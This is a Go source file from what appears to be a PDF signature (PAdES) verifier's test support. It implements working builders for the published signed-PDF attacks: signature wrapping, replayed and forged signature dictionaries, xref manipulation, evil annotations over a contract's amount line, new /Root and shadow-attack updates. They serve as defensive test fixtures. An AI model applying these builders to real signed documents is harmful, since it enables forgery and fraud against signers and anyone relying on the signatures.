package pades

import (
	"bytes"
	"fmt"
	"slices"
)

// Builders of the published attacks on signed PDFs (Mladenov et al.,
// "1 Trillion Dollar Refund", 2019: universal signature forgery,
// incremental saving, signature wrapping; Mainka et al., "Shadow
// Attacks", 2021; Rohlmann et al., "Breaking the Specification: PDF
// Certification", 2021: evil annotations, sneaky signatures), for the
// tests in attacks_test.go.

// openFirstPage parses pdf and finds its first page.
func openFirstPage(pdf []byte) (*document, ref, *dict, error) {
	doc, err := parseDocument(pdf)
	if err != nil {
		return nil, ref{}, nil, err
	}
	pageRef, page, err := doc.firstPage()
	return doc, pageRef, page, err
}

// overBox is where the attacks draw: over the contract's amount line.
var overBox = [4]float64{60, 690, 540, 780}

// NameFirstPageInfo appends an update naming the first page as the
// document information dictionary (the trailer's /Info), as a document
// prepared for a shadow attack would be before it is signed.
func NameFirstPageInfo(pdf []byte) ([]byte, error) {
	doc, pageRef, page, err := openFirstPage(pdf)
	if err != nil {
		return nil, err
	}
	u := newUpdate(doc)
	u.put(pageRef, page.clone())
	doc.trailer.set("Info", pageRef)
	return u.bytes(), nil
}

// FirstPageContent is the object number of the first page's (first)
// content stream.
func FirstPageContent(pdf []byte) (int, error) {
	doc, err := parseDocument(pdf)
	if err != nil {
		return 0, err
	}
	_, page, err := doc.firstPage()
	if err != nil {
		return 0, err
	}
	c := page.get("Contents")
	if a, ok := c.(array); ok && len(a) > 0 {
		c = a[0]
	}
	r, ok := c.(ref)
	if !ok {
		return 0, fmt.Errorf("no content stream reference")
	}
	return r.num, nil
}

// AppendXrefOmitting appends a cross-reference section, with no /Prev,
// that lists every object of the document but num: nothing is written,
// no object is freed, and object num is gone — null — for every reader
// that follows the last startxref. The document must keep every object
// in the file (no object streams).
func AppendXrefOmitting(pdf []byte, num int) ([]byte, error) {
	doc, err := parseDocument(pdf)
	if err != nil {
		return nil, err
	}
	var b bytes.Buffer
	b.Write(pdf)
	xrefAt := b.Len()
	b.WriteString("xref\n0 1\n0000000000 65535 f\r\n")
	nums := make([]int, 0, len(doc.xref))
	for n, e := range doc.xref {
		if e.kind == 2 {
			return nil, fmt.Errorf("object %d is in an object stream", n)
		}
		if e.kind == 1 && n != num {
			nums = append(nums, n)
		}
	}
	slices.Sort(nums)
	for _, n := range nums {
		e := doc.xref[n]
		fmt.Fprintf(&b, "%d 1\n%010d %05d n\r\n", n, e.off, e.gen)
	}
	t := newDict()
	t.set("Size", number(fmt.Sprint(doc.size)))
	t.set("Root", doc.trailer.get("Root"))
	b.WriteString("trailer\n")
	writeObject(&b, t)
	fmt.Fprintf(&b, "\nstartxref\n%d\n%%%%EOF\n", xrefAt)
	return b.Bytes(), nil
}

// AppendReplayedSignature appends an update adding a signature field, with
// a visible appearance showing text over the first page, whose value is a
// new object copying the document's first signature dictionary — its
// /ByteRange and /Contents: a signature that verifies over bytes that do
// not hold it.
func AppendReplayedSignature(pdf []byte, text string) ([]byte, error) {
	doc, err := parseDocument(pdf)
	if err != nil {
		return nil, err
	}
	sigs, err := doc.signatures()
	if err != nil || len(sigs) == 0 {
		return nil, fmt.Errorf("no signature: %v", err)
	}
	u := newUpdate(doc)
	copied := u.alloc()
	u.put(copied, sigs[0].dict)
	if err := u.addField(copied, &Appearance{Rect: overBox, Lines: []string{text}}); err != nil {
		return nil, err
	}
	return u.bytes(), nil
}

// AppendSignatureDict appends an update adding a signature field whose
// signature dictionary is body, written as it is: for forged dictionaries
// (no /ByteRange, a null /Contents…).
func AppendSignatureDict(pdf []byte, body string) ([]byte, error) {
	doc, err := parseDocument(pdf)
	if err != nil {
		return nil, err
	}
	u := newUpdate(doc)
	sig := u.alloc()
	u.putRaw(sig, []byte(body))
	if err := u.addField(sig, nil); err != nil {
		return nil, err
	}
	return u.bytes(), nil
}

// AppendWrappedSignature appends a signature wrapping attack on the first
// signature: an update that redefines its dictionary with a /ByteRange
// whose second range points at a copy of the signed bytes after the
// signature value, placed in the update, so that the digest still matches
// while the gap between the ranges holds the rest of the file.
func AppendWrappedSignature(pdf []byte) ([]byte, error) {
	doc, err := parseDocument(pdf)
	if err != nil {
		return nil, err
	}
	sigs, err := doc.signatures()
	if err != nil || len(sigs) == 0 {
		return nil, fmt.Errorf("no signature: %v", err)
	}
	s := sigs[0]
	a, b, c, e := s.byteRange[0], s.byteRange[1], s.byteRange[2], s.byteRange[3]
	u := newUpdate(doc)
	u.put(u.alloc(), &stream{dict: newDict(), raw: pdf[c : c+e]})
	d := s.dict.clone()
	const placeholder = "0000000000"
	d.set("ByteRange", array{number(fmt.Sprint(a)), number(fmt.Sprint(b)), number(placeholder), number(fmt.Sprint(e))})
	u.put(s.holder, d)
	out := u.bytes()
	at := bytes.LastIndex(out, pdf[c:c+e])
	ph := bytes.LastIndex(out, []byte(placeholder))
	if at < len(pdf) || ph < 0 {
		return nil, fmt.Errorf("copy not found")
	}
	copy(out[ph:], fmt.Sprintf("%010d", at))
	return out, nil
}

// AppendAnnotation appends an update adding to the first page an
// annotation of subtype (FreeText, Square…) whose appearance shows text
// over the page — the evil annotation attack, which a certification with
// DocMDP permissions 3 permits.
func AppendAnnotation(pdf []byte, subtype, text string) ([]byte, error) {
	doc, pageRef, page, err := openFirstPage(pdf)
	if err != nil {
		return nil, err
	}
	u := newUpdate(doc)
	r := u.alloc()
	a := newDict()
	a.set("Type", name("Annot"))
	a.set("Subtype", name(subtype))
	a.set("Contents", pdfStr(text))
	a.set("P", pageRef)
	u.appearance(a, &Appearance{Rect: overBox, Lines: []string{text}})
	a.set("F", number("4")) // Print
	u.put(r, a)
	ao, _ := doc.resolve(page.get("Annots"))
	annots, _ := ao.(array)
	p := page.clone()
	p.set("Annots", append(append(array{}, annots...), r))
	u.put(pageRef, p)
	return u.bytes(), nil
}

// AppendNewRoot appends an update whose trailer names a new catalog, a
// copy of the old one (incremental saving attack: a new /Root).
func AppendNewRoot(pdf []byte) ([]byte, error) {
	doc, _, cat, err := parseCatalog(pdf)
	if err != nil {
		return nil, err
	}
	u := newUpdate(doc)
	r := u.alloc()
	u.put(r, cat.clone())
	doc.trailer.set("Root", r)
	return u.bytes(), nil
}

// AppendAnnotationsRemoved appends an update taking every annotation but
// widgets off the first page (a shadow attack's "hide", by deleting what
// the signer saw drawn over the text).
func AppendAnnotationsRemoved(pdf []byte) ([]byte, error) {
	doc, pageRef, page, err := openFirstPage(pdf)
	if err != nil {
		return nil, err
	}
	ao, _ := doc.resolve(page.get("Annots"))
	annots, _ := ao.(array)
	var keep array
	for _, a := range annots {
		if d, _ := doc.resolveDict(a); !isAnnotation(d) {
			keep = append(keep, a)
		}
	}
	u := newUpdate(doc)
	p := page.clone()
	p.set("Annots", keep)
	u.put(pageRef, p)
	return u.bytes(), nil
}
